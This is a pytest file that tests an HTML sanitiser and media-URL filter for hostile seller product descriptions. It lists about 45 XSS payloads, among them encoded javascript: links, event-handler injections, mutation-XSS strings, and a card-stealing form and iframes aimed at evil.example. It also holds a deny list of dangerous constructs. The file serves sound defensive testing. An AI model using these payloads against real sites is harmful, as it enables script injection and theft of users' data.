"""Hostile seller content: descriptions sanitised by lib.sanitize, media URLs by
lib.coerce.safe_url, and the parsers use both.

Each payload's output is parsed back with html.parser and checked structurally (only
allowed tags and attributes, every link http(s)), and as text (none of the dangerous
constructs appear, in any case or encoding).
"""
from __future__ import annotations

import json
from html.parser import HTMLParser

import pytest

from lib.coerce import MAX_URL_LENGTH, safe_url
from lib.platforms import PLATFORMS, parse_payload
from lib.sandbox import DEMO_PRODUCTS, load_fixture
from lib.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, image_sources, sanitize_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://ae01.alicdn.com/kf/a.jpg\" onload=\"alert(1)\" ONMOUSEOVER=alert(2)>",
    "<body onload=alert(1)>text</body>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<form action=\"https://evil.example/steal\"><input name=card><button>Pay</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<style>body{background:url(javascript:alert(1))}</style><p>x</p>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<p style=\"background-image:url('javascript:alert(1)')\">x</p>",
    "<svg onload=alert(1)><circle r=10 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\"><a href=\"/x\">x</a>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=\"x.swf\">",
    "<video poster=javascript:alert(1)><source src=x onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<img src=`x`onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<a href=\"https://user:pass@evil.example/\">x</a>",
    "<a href=\"//evil.example/\" target=\"_blank\">x</a>",
    "<img srcset=\"https://evil.example/a.jpg 1x\" src=\"https://ae01.alicdn.com/kf/b.jpg\">",
    "<a href=\"https://ae01.alicdn.com/\" onclick=\"alert(1)\" style=\"position:fixed\">x</a>",
    "<p>Text mentioning javascript:alert(1) in a sentence</p>",
    "<template><script>alert(1)</script></template><noscript><p title=\"</noscript><img "
    "src=x onerror=alert(1)>\"></noscript>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)",
    "<isindex action=javascript:alert(1) type=submit>",
    "<table background=\"javascript:alert(1)\"><td background=\"javascript:alert(2)\">x</td></table>",
]
DANGEROUS_TEXT = ["<script", "javascript:", "vbscript:", "data:", "<iframe", "<form",
                  "<style", "style=", "expression(", "<svg", "<meta", "srcdoc", "<base",
                  "<object", "<embed", "<link", "<input", "<button", "formaction",
                  "<math", "<template", "<noscript", "srcset", "onerror", "onload",
                  "onclick", "background="]
URL_ATTRIBUTES = {"href", "src"}


class Structure(HTMLParser):
    """Every start tag and attribute of the output (entities decoded)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def structure(output: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Structure()
    parser.feed(output)
    parser.close()
    return parser.tags


def check_safe(output: str) -> None:
    lowered = output.lower()
    for construct in DANGEROUS_TEXT:
        assert construct not in lowered, (construct, output)
    for tag, attributes in structure(output):
        assert tag in ALLOWED_TAGS, (tag, output)
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}
        for name, value in attributes.items():
            assert name in allowed, (tag, name, output)
            assert not name.startswith("on")
            if name in URL_ATTRIBUTES:
                assert value and safe_url(value) == value, (name, value)
                assert value.lower().startswith(("https://", "http://"))


@pytest.mark.parametrize("payload", PAYLOADS, ids=[p[:50] for p in PAYLOADS])
def test_payload_is_defused(payload):
    output = sanitize_html(payload)
    check_safe(output)
    # Wrapped in ordinary seller markup it is defused just the same.
    wrapped = sanitize_html(f"<div><p>Great <b>product</b></p>{payload}<p>end</p></div>")
    check_safe(wrapped)
    assert "<b>product</b>" in wrapped        # (some payloads swallow what follows them)


def test_there_are_enough_payloads():
    assert len(PAYLOADS) >= 20


def test_safe_markup_survives():
    text = ("<h2>Specs</h2><p>Size: <b>XL</b> &amp; <i>blue</i></p><ul><li>one</li></ul>"
            "<table><tbody><tr><td colspan=\"2\">cell</td></tr></tbody></table>"
            "<img src=\"https://ae01.alicdn.com/kf/a.jpg\" alt=\"front\" width=\"400\">"
            "<a href=\"https://www.aliexpress.com/item/1005006789012345.html\">link</a>")
    output = sanitize_html(text)
    for kept in ("<h2>Specs</h2>", "<b>XL</b>", "&amp;", "<li>one</li>", 'colspan="2"',
                 'src="https://ae01.alicdn.com/kf/a.jpg"', 'alt="front"',
                 'href="https://www.aliexpress.com/item/1005006789012345.html"',
                 'rel="noopener noreferrer nofollow"'):
        assert kept in output, kept
    check_safe(output)


def test_protocol_relative_images_are_fixed_to_https():
    output = sanitize_html('<img src="//ae01.alicdn.com/kf/a.jpg">')
    assert image_sources(output) == ["https://ae01.alicdn.com/kf/a.jpg"]


def test_image_sources_of_hostile_html_are_all_web_urls():
    hostile = '<img src="https://ae01.alicdn.com/kf/ok.jpg?a=1&amp;b=2">' + "".join(PAYLOADS)
    sources = image_sources(sanitize_html(hostile))
    assert "https://ae01.alicdn.com/kf/ok.jpg?a=1&b=2" in sources
    assert all(s.startswith(("https://", "http://")) for s in sources)


@pytest.mark.parametrize("value", [None, 5, b"<script>", ["<script>"], {"a": 1}, "", "   "])
def test_non_text_gives_nothing(value):
    assert sanitize_html(value) == ""


def test_huge_description_is_bounded():
    output = sanitize_html("<p>" + "x" * 2_000_000 + "</p>")
    assert len(output) <= 600_000


# --- media URLs ---------------------------------------------------------------------------
@pytest.mark.parametrize("url, expected", [
    ("https://ae01.alicdn.com/kf/a.jpg", "https://ae01.alicdn.com/kf/a.jpg"),
    ("http://img.example/a.png", "http://img.example/a.png"),
    ("//ae01.alicdn.com/kf/a.jpg", "https://ae01.alicdn.com/kf/a.jpg"),
    ("HTTPS://AE01.ALICDN.COM/kf/a.jpg", "HTTPS://AE01.ALICDN.COM/kf/a.jpg"),
    ("javascript:alert(1)", ""), ("JAVASCRIPT:alert(1)", ""), (" javascript:alert(1)", ""),
    ("jav\tascript:alert(1)", ""), ("&#106;avascript:alert(1)", ""),
    ("data:image/png;base64,AAAA", ""), ("vbscript:x", ""), ("file:///etc/passwd", ""),
    ("ftp://a.example/x.jpg", ""), ("blob:https://a.example/x", ""),
    ("https://user:pw@a.example/x.jpg", ""), ("https://user@a.example/x.jpg", ""),
    ("https://a.example\\@evil.example/x.jpg", ""), ("https:\\\\evil.example\\x.jpg", ""),
    ("https://a.example/x\x00.jpg", ""), ("https://a.example/x\x7f.jpg", ""),
    ("https://a.example/" + "x" * MAX_URL_LENGTH, ""), ("///evil.example/x.jpg", ""),
    ("/etc/passwd", ""), ("x.jpg", ""),
])
def test_media_urls(url, expected):
    assert safe_url(url) == expected


# --- through the parsers -----------------------------------------------------------------
HOSTILE_HTML = ('<p>Nice</p><script>alert(1)</script><img src=x onerror=alert(1)>'
                '<a href="javascript:alert(1)">x</a><iframe src="https://evil.example">'
                '</iframe>')
HOSTILE_URL = "javascript:alert(1)"


def _inject(value):
    """Every description-ish string and every URL-ish string of a payload made hostile."""
    if isinstance(value, dict):
        out = {}
        for key, inner in value.items():
            lowered = key.lower()
            if isinstance(inner, str) and lowered in {"detail", "mobile_detail",
                                                       "description", "desc"}:
                out[key] = HOSTILE_HTML
            elif isinstance(inner, str) and inner.startswith(("http://", "https://", "//")):
                out[key] = HOSTILE_URL
            else:
                out[key] = _inject(inner)
        return out
    if isinstance(value, list):
        return [_inject(v) for v in value]
    if isinstance(value, str) and value.startswith(("http://", "https://", "//")):
        return HOSTILE_URL
    return value


@pytest.mark.parametrize("key", list(PLATFORMS))
def test_parsers_never_pass_hostile_content_through(key):
    queries = [q for q in DEMO_PRODUCTS if q.platform == key]
    if not queries:
        pytest.skip(f"no demo product for {key}")
    fixture = load_fixture(key, queries[0].product_id)
    product = parse_payload(key, _inject(fixture), queries[0])
    check_safe(product.description_html)
    urls = [i.url for i in product.media.images] + [v.url for v in product.media.videos]
    urls += [v.poster for v in product.media.videos if v.poster]
    urls += [u for u in product.skus.get("image_url", []) if isinstance(u, str) and u]
    for url in urls:
        assert url.startswith(("https://", "http://", "/app/static/")), url
    assert HOSTILE_URL not in json.dumps(
        [product.url, product.store.url, product.trade.promotion_link])
